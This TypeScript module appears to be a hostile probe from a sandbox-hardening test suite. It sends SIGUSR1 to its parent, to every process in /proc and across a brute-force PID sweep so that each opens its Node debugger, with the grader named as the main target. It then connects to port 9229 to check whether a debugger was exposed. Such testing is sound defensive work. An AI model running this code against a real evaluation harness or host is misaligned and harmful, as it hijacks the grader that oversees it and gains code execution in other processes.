// Opens the Node inspector of every process it can signal (SIGUSR1), the grader's above all.
import { readdirSync } from 'node:fs';
import net from 'node:net';
import { attempt, emptyAudit } from './common.ts';

export const audit = emptyAudit;

export async function apply() {
  await attempt('signal the parent', () => process.kill(process.ppid, 'SIGUSR1'));
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p)).map(Number)) {
    if (pid !== process.pid) await attempt(`signal ${pid}`, () => process.kill(pid, 'SIGUSR1'));
  }
  for (let pid = 1; pid < 4_000_000; pid += 1) {
    try {
      process.kill(pid, 0);
      if (pid !== process.pid) process.kill(pid, 'SIGUSR1');
    } catch {
      // not there or not ours
    }
    if (pid > 70000) pid += 997; // a sparse sweep of high pids
  }
  await new Promise((r) => setTimeout(r, 500));
  await attempt('reach an inspector', () => new Promise<void>((resolve, reject) => {
    const s = net.connect(9229, '127.0.0.1', () => {
      console.log('hostile: INSPECTOR-REACHED');
      s.destroy();
      resolve();
    });
    s.on('error', reject);
  }));
}
